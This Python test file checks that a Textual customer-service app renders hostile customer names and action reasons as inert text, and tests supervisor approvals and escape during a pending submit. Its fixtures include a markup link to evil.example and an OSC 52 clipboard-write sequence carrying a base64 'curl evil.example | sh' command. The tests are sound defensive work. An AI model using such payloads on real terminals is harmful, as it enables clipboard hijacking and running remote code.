"""Actions around hostile customers: every place an action's names and reasons reach the screen
shows them literally and inert; a supervisor decides from the workspace; and an action submitted
just before escape is never lost silently."""

from __future__ import annotations

import asyncio
import re
import sqlite3
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta
from typing import Any

import pytest
from sqlalchemy import select
from sqlalchemy.engine import make_url
from textual.app import App
from textual.pilot import Pilot
from textual.widgets import Input, Label, Static

from screens.action_form import ActionFormScreen
from screens.approvals import ApprovalsScreen
from screens.decision_reason import DecisionReasonScreen
from screens.news import NewsWatcher
from screens.workspace import WorkspaceScreen
from storage.engine import Database
from storage.models import Action, Agent
from storage.uow import read_session, unit_of_work
from tests.app.conftest import fill_desk, make_app, settle
from tests.app.screen import assert_inert, screen_text, terminal_output
from tests.app.screen import shown as _shown
from tests.app.screen import toasts as _toasts
from tests.factories import NOW, add_agents, add_customer, add_order, add_ticket
from tests.hostile import INLINE_CASES, load_hostile_cases
from widgets.action_strip import ActionStrip
from widgets.digest import CustomerDigest
from widgets.queue_table import QueueTable
from workspace.action_view import ActionRequest
from workspace.agents import AgentRecord
from workspace.policy_file import default_policy
from workspace.text import one_line, preview
from workspace.workbench import Workbench

POLICY = default_policy()

#: Corpus cases added to the first case of each kind: the markup that crashes the app when it
#: is parsed, and the sequence that writes the agent's clipboard. Few: each case costs more
#: than a second of key presses.
_EXTRA_PICKS = ("markup-link-unquoted", "osc52-clipboard")

#: Customer names are clipped to this (as in test_hostile_text); reasons are stored whole.
_NAME_MAX = 5000


def _kind(case_class: str) -> str:
    """The kind of attack a corpus class belongs to: `osc8-link` -> `osc`."""
    match = re.match(r"[a-z]+", case_class)
    assert match is not None, case_class
    return match.group()


def _picks() -> list[tuple[str, str]]:
    """The first case of every kind in the corpus, and the extra picks; the inline cases when
    the corpus is missing, so the test never silently tests nothing."""
    cases = load_hostile_cases()
    if cases is None:
        return list(INLINE_CASES)
    seen: set[str] = set()
    picked = []
    for case_class, text in cases:
        if _kind(case_class) not in seen or case_class in _EXTRA_PICKS:
            seen.add(_kind(case_class))
            picked.append((case_class, text))
    return sorted(picked, key=lambda case: case[0] != "markup-bold")


def _assert_inert(app: App[Any], kind: str) -> None:
    """Nothing but Textual's own sequences reaches the terminal, and nothing hidden."""
    assert_inert(terminal_output(app), kind)


def _strip_line(listed: str, action_id: int) -> str:
    """The actions strip's line for action `action_id` (after its status mark)."""
    for line in listed.split("\n"):
        if re.match(rf"\S #{action_id} ", line):
            return line
    raise AssertionError(f"#{action_id} is not in the strip: {listed!r}")


def _line_after(text: str, head: str) -> str:
    """The rest of the line of `text` that starts with `head`."""
    for line in text.split("\n"):
        if line.startswith(head):
            return line.removeprefix(head)
    raise AssertionError(f"no line starts with {head!r}: {text[-400:]!r}")


def _told(app: App[Any]) -> list[str]:
    """Every notification given so far."""
    return [n.message for n in app._notifications]


def _statuses(db: Database) -> list[tuple[str, str, str, str | None]]:
    with read_session(db) as s:
        rows = s.execute(
            select(Action.kind, Action.amount, Action.status, Action.decision_reason).order_by(
                Action.id  # type: ignore[arg-type]
            )
        )
        return [(k, str(a), st, why) for k, a, st, why in rows]


def _add_colleague(db: Database, name: str, display_name: str) -> AgentRecord:
    """An agent whose display name is untrusted text (it comes from the agent directory)."""
    with unit_of_work(db) as s:
        agent = Agent(name=name, display_name=display_name, role="agent")
        s.add(agent)
        s.flush()
        assert agent.id is not None
        return AgentRecord(agent.id, agent.name, agent.display_name, agent.role)


def _desk(db: Database, agent: AgentRecord, minutes_ago: int = 0) -> Workbench:
    at = NOW - timedelta(minutes=minutes_ago)
    return Workbench.open(db, agent, POLICY, clock=lambda: at)


def _discount(cid: str, amount: str, reason: str, ticket: str | None) -> ActionRequest:
    return ActionRequest(
        kind="discount",
        customer_id=cid,
        order_id=f"W-{cid}",
        amount=amount,
        reason=reason,
        ticket_id=ticket,
    )


# --- 1. Hostile names and reasons in the form, strip, digest and decision toasts ------------


def _plant(db: Database, alex: AgentRecord, cases: list[tuple[str, str]]) -> list[int]:
    """Per case: a gold customer named with it, a plain order, a contact Alex holds, a discount
    a colleague (named with it) executed with it as the reason, and Alex's request, waiting,
    with it as the reason. Returns the ids of the requests, in case order."""
    requests = []
    for i, (_case, text) in enumerate(cases):
        cid, tid = f"C-{i:02d}", f"T-{i:02d}"
        add_customer(db, cid, text[:_NAME_MAX], "gold")
        add_order(db, f"W-{cid}", cid, placed=NOW - timedelta(days=6))  # 129.00, delivered
        add_ticket(db, tid, cid, due_in=i, holder=alex.id)
        colleague = _add_colleague(db, f"kim-{i:02d}", text[:200])
        done = _desk(db, colleague, 120).actions.take(_discount(cid, "20", text, None)).record
        assert done.status == "executed", (cid, done.verdict_reason)
        waiting = _desk(db, alex, 5).actions.take(_discount(cid, "50", text, tid)).record
        assert waiting.status == "requested", (cid, waiting.verdict_reason)
        requests.append(waiting.id)
    return requests


async def _open_form(pilot: Pilot[None], kind: str) -> ActionFormScreen:
    await pilot.press("a")
    await settle(pilot)
    form = pilot.app.screen
    assert isinstance(form, ActionFormScreen), kind
    return form


async def test_hostile_names_and_reasons_are_inert_wherever_actions_show(
    sqlite_db: Database,
) -> None:
    """One contact per case, walked in one app (each case costs about a second of keys)."""
    cases = _picks()
    (alex,) = add_agents(sqlite_db, "alex")
    (jordan,) = add_agents(sqlite_db, "jordan", role="supervisor")
    requests = _plant(sqlite_db, alex, cases)
    supervisor = Workbench.open(sqlite_db, jordan, POLICY, clock=lambda: NOW)
    app = make_app(sqlite_db, agent="alex")
    async with app.run_test(size=(100, 30), notifications=True) as pilot:
        await settle(pilot)
        workspace = app.screen
        assert isinstance(workspace, WorkspaceScreen)
        table = workspace.query_one(QueueTable)
        strip = workspace.query_one(ActionStrip)
        digest = workspace.query_one(CustomerDigest)
        assert table.total == len(cases)
        for i, (kind, text) in enumerate(cases):
            name, colleague = text[:_NAME_MAX], text[:200]
            table.select_index(i)
            await settle(pilot)
            assert table.current is not None and table.current.id == f"T-{i:02d}", kind
            await pilot.press("enter")  # claim: Alex already holds it
            await settle(pilot)
            assert app.is_running, kind
            table.focus()  # as f2 does (a key press costs time): single-letter keys work again
            await pilot.pause()

            # The form's title names the customer.
            form = await _open_form(pilot, kind)
            title = _shown(form.query_one("#action-title", Label))
            assert title.startswith(f"Act for {one_line(name)}  "), (kind, title)
            assert title.endswith(f" GOLD  · T-{i:02d}"), (kind, title)
            _assert_inert(app, kind)
            if kind == "markup-bold":
                assert "Act for [bold red]Mallory[/bold red]" in screen_text(app)
            await pilot.press("escape")
            await settle(pilot)
            assert app.screen is workspace, kind

            # The strip: Alex's waiting request, and the colleague's executed discount.
            request = requests[i]
            listed = _shown(strip)
            assert f"withdraw #{request}" in listed, (kind, listed)
            waiting = _strip_line(listed, request)
            assert "Discount 50.00 USD  waiting for approval  Alex " in waiting, (kind, waiting)
            done = _strip_line(listed, request - 1)
            assert "Discount 20.00 USD  executed, to send  " in done, (kind, done)
            assert f"to send  {one_line(colleague)} " in done, (kind, done)

            # The digest: the name, and what was given and is waiting.
            assert digest.digest is not None and digest.digest.customer.id == f"C-{i:02d}", kind
            given = _shown(digest.body)
            # What needs acting on comes first; the name follows it, on a line of its own.
            assert given.startswith("Waiting for approval: 1 request\n"), (kind, given[:200])
            assert f"\n{one_line(name)}  " in given, (kind, given[:400])
            compensation = _line_after(given, "Given in 90 days: ")
            assert compensation.startswith("20.00 USD in 1 action  ·  discount 50.00 waiting "), (
                kind,
                compensation,
            )
            assert "  ·  discount 20.00 " in compensation, (kind, compensation)
            _assert_inert(app, kind)
            if kind == "markup-bold":
                shown_text = screen_text(app)
                assert "[bold red]Mallory[/bold red]" in shown_text
                assert "Given in 90 days: 20.00 USD in 1 action" in shown_text

            # A supervisor decides, with the hostile text as the reason; the poll tells Alex.
            app.clear_notifications()
            approve = i % 2 == 0
            decide = supervisor.approvals.approve if approve else supervisor.approvals.deny
            assert decide(request, text).changed, kind
            workspace.query_one(NewsWatcher).look()
            await settle(pilot)
            outcome = "executed, approved by Jordan" if approve else "denied by Jordan"
            sentence = (
                f"#{request} Discount of 50.00 USD for {preview(name, 60)}: "
                f"{outcome}: {preview(text.strip(), 200)}."
            )
            assert sentence in _told(app), (kind, _told(app))
            assert any(sentence in toast for toast in _toasts(app)), (kind, _toasts(app))
            _assert_inert(app, kind)
            if kind == "markup-bold":
                assert "[bold red]Mallory[/bold red]" in screen_text(app)
            status = "executed" if approve else "denied"
            assert f"#{request} Discount 50.00 USD  {status}" in _shown(strip), kind
            app.clear_notifications()
        assert app.is_running


def test_the_picks_cover_every_kind_of_attack() -> None:
    """Each kind in the corpus has a case above; a renamed extra pick would drop out silently."""
    cases = load_hostile_cases()
    if cases is None:
        pytest.skip("hostile-text corpus not found")
    picked = {case_class for case_class, _ in _picks()}
    assert {_kind(c) for c, _ in cases} == {_kind(c) for c in picked}
    assert set(_EXTRA_PICKS) <= picked


# --- 2. The approval queue from the workspace -----------------------------------------------

_SUPERVISED_NAME = "[link=https://evil.example/pay]refund status[/link]"
_SUPERVISED_REASON = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 [bold]approve me[/bold]"


def _supervised(db: Database) -> int:
    """Alex's discount request, waiting, for a customer with a hostile name and reason."""
    (alex,) = add_agents(db, "alex")
    add_agents(db, "jordan", role="supervisor")
    add_customer(db, "C-1", _SUPERVISED_NAME, "gold")
    add_order(db, "W-C-1", "C-1", placed=NOW - timedelta(days=6))
    add_ticket(db, "T-1", "C-1", holder=alex.id)
    record = (
        _desk(db, alex, 5).actions.take(_discount("C-1", "50", _SUPERVISED_REASON, "T-1")).record
    )
    assert record.status == "requested"
    return record.id


async def test_a_supervisor_approves_from_the_workspace(sqlite_db: Database) -> None:
    """p opens the approval queue; a, a reason and enter execute the request; esc is back."""
    request = _supervised(sqlite_db)
    app = make_app(sqlite_db, agent="jordan")
    async with app.run_test(size=(160, 35), notifications=True) as pilot:
        await settle(pilot)
        workspace = app.screen
        assert isinstance(workspace, WorkspaceScreen)
        await pilot.press("p")
        await settle(pilot)
        approvals = app.screen
        assert isinstance(approvals, ApprovalsScreen)
        assert [r.id for r in approvals.records] == [request]
        shown = screen_text(app)
        assert _SUPERVISED_NAME in shown and "[bold]approve me[/bold]" in shown
        assert "^[]52;c;" in shown  # the OSC 52 shows as text, and writes no clipboard
        _assert_inert(app, "approvals")
        await pilot.press("a")
        await settle(pilot)
        assert isinstance(app.screen, DecisionReasonScreen)
        _assert_inert(app, "decision reason")
        await pilot.press(*"loyal customer", "enter")
        await settle(pilot)
        assert app.screen is approvals
        assert _statuses(sqlite_db) == [("discount", "50.00", "executed", "loyal customer")]
        assert approvals.records == []
        told = "\n".join(_told(app))
        assert f"Approved #{request}: discount of 50.00 USD for {_SUPERVISED_NAME}" in told
        await pilot.press("escape")
        await settle(pilot)
        assert app.screen is workspace
        assert app.is_running


async def test_an_agent_pressing_p_stays_on_the_workspace(sqlite_db: Database) -> None:
    _supervised(sqlite_db)
    app = make_app(sqlite_db, agent="alex")
    async with app.run_test(size=(120, 35)) as pilot:
        await settle(pilot)
        workspace = app.screen
        assert isinstance(workspace, WorkspaceScreen)
        await pilot.press("p")
        await settle(pilot)
        assert app.screen is workspace
        assert _statuses(sqlite_db)[0][2] == "requested"


# --- 3. Escape while a submit is in flight -------------------------------------------------


@contextmanager
def _write_lock_held(db: Database, seconds: float) -> Iterator[threading.Timer]:
    """A competing writer: BEGIN IMMEDIATE on a connection of its own, released after
    `seconds` from a timer thread, so a unit of work started meanwhile waits for it."""
    path = make_url(db.url).database
    assert path, db.url
    other = sqlite3.connect(path, isolation_level=None, check_same_thread=False)
    other.execute("BEGIN IMMEDIATE")

    def release() -> None:
        other.execute("ROLLBACK")
        other.close()

    timer = threading.Timer(seconds, release)
    timer.start()
    try:
        yield timer
    finally:
        timer.join()


async def _stored(db: Database, timeout: float = 5.0) -> list[tuple[str, str, str, str | None]]:
    """The actions, once there is one (or the timeout passed)."""
    for _ in range(int(timeout / 0.05)):
        rows = _statuses(db)
        if rows:
            return rows
        await asyncio.sleep(0.05)
    return _statuses(db)


async def test_escape_during_a_submit_does_not_lose_the_action(sqlite_db: Database) -> None:
    """The submit waits on a competing writer while escape is pressed: once it is done, the
    agent has been told the outcome and the strip shows the action (the form used to close
    at once and the stored action went untold)."""
    fill_desk(sqlite_db)
    app = make_app(sqlite_db)
    async with app.run_test(size=(120, 35), notifications=True) as pilot:
        await settle(pilot)
        workspace = app.screen
        assert isinstance(workspace, WorkspaceScreen)
        await pilot.press("down", "enter")  # T-1: Dana Whitfield, gold, order W1001
        await settle(pilot)
        await pilot.press("f2")
        form = await _open_form(pilot, "plain")
        for field, typed in (("#action-amount", "20"), ("#action-reason", "jug cracked")):
            form.query_one(field, Input).focus()
            await pilot.press(*typed)
        await settle(pilot)
        assert "ALLOW" in str(form.query_one("#action-verdict", Static).render())
        with _write_lock_held(sqlite_db, 2.0):  # ample for two key presses on a slow machine
            await pilot.press("ctrl+s", "escape")
            await pilot.pause()
            assert _statuses(sqlite_db) == []  # the submit is still waiting for the lock
        assert await _stored(sqlite_db) == [("discount", "20.00", "executed", None)]
        await settle(pilot, rounds=3)
        assert app.is_running
        assert app.screen is workspace
        told = "\n".join(_told(app))
        assert "#1 Discount of 20.00 USD for Dana Whitfield: executed." in told, told
        assert "#1 Discount 20.00 USD  executed" in _shown(workspace.query_one(ActionStrip))
